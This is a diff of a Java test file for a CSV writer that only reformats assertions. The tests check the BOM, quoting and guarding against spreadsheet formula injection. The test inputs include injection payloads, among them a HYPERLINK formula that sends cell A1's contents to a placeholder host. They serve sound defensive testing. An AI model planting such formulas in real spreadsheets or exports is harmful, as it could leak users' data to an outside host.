@@ -20,9 +20,8 @@ class CsvWriterTest {
         }
         byte[] bytes = out.toByteArray();
         assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
-        assertThat(new String(bytes, StandardCharsets.UTF_8)).isEqualTo("\uFEFF顧客名,内容\r\n"
-                + "\"山田, 太郎\",\"1行目\n2行目 \"\"重要\"\"\"\r\n"
-                + "空欄,\r\n");
+        assertThat(new String(bytes, StandardCharsets.UTF_8))
+                .isEqualTo("\uFEFF顧客名,内容\r\n" + "\"山田, 太郎\",\"1行目\n2行目 \"\"重要\"\"\"\r\n" + "空欄,\r\n");
     }
 
     @Test
@@ -32,9 +31,10 @@ class CsvWriterTest {
             csv.row(Arrays.asList("=1+1", "+81 3 1234", "-2+3", "@SUM(A1)", "\tx", "\r=1", "\uFF1D1+1"));
             csv.row(Arrays.asList("=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", -5, "山田=太郎", ""));
         }
-        assertThat(new String(out.toByteArray(), StandardCharsets.UTF_8)).isEqualTo("\uFEFF"
-                + "'=1+1,'+81 3 1234,'-2+3,'@SUM(A1),'\tx,\"'\r=1\",'\uFF1D1+1\r\n"
-                + "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\",-5,山田=太郎,\r\n");
+        assertThat(new String(out.toByteArray(), StandardCharsets.UTF_8))
+                .isEqualTo("\uFEFF"
+                        + "'=1+1,'+81 3 1234,'-2+3,'@SUM(A1),'\tx,\"'\r=1\",'\uFF1D1+1\r\n"
+                        + "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\",-5,山田=太郎,\r\n");
     }
 
     @Test
@@ -42,7 +42,9 @@ class CsvWriterTest {
         for (String text : List.of("=1+1", "+81 3 1234", "-2+3", "@SUM(A1)", "\uFF1D1+1")) {
             assertThat(CsvWriter.unguarded(CsvWriter.quote(text))).isEqualTo(text);
         }
-        assertThat(CsvWriter.unguarded("'quoted'")).as("an apostrophe before plain text stays").isEqualTo("'quoted'");
+        assertThat(CsvWriter.unguarded("'quoted'"))
+                .as("an apostrophe before plain text stays")
+                .isEqualTo("'quoted'");
         assertThat(CsvWriter.unguarded("'")).isEqualTo("'");
     }
 }
